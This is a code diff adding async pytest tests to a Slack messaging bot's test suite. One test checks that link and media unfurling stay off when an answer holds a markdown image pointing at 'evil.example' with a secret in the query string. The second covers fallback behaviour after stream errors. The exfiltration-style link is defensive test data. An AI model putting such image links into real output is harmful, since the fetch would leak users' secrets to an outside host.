@@ -98,6 +98,37 @@ async def test_finished_page_is_one_post_in_its_thread(
     assert calls(slack) == ["postMessage"]
 
 
+async def test_links_in_an_answer_are_not_visited(
+    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
+) -> None:
+    said = await answer(slack, speaker, dm.channel, ann)
+    await said.end("![](https://evil.example/?secret=1)")
+    (call,) = slack.journal.of("chat.postMessage")
+    assert call.params["unfurl_links"] is False
+    assert call.params["unfurl_media"] is False
+
+
+@pytest.mark.parametrize(
+    ("error", "method"),
+    [
+        ("missing_recipient_team_id", "startStream"),
+        ("missing_recipient_user_id", "startStream"),
+        ("user_not_found", "startStream"),
+        ("team_not_found", "startStream"),
+        ("channel_type_not_supported", "postMessage"),
+        ("unknown_method", "postMessage"),
+    ],
+)
+async def test_refusal_of_a_reader_says_nothing_of_the_next(
+    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person, error: str, method: str
+) -> None:
+    slack.inject(Fault("chat.startStream", error=error))
+    for _ in range(2):
+        said = await answer(slack, speaker, dm.channel, ann)
+        await said.grow("Hel")
+    assert calls(slack) == ["startStream", "postMessage", method]
+
+
 async def test_edits_are_updates_of_one_post(
     slack: Emulator, editor: Speaker, general: Channel, ann: Person
 ) -> None:
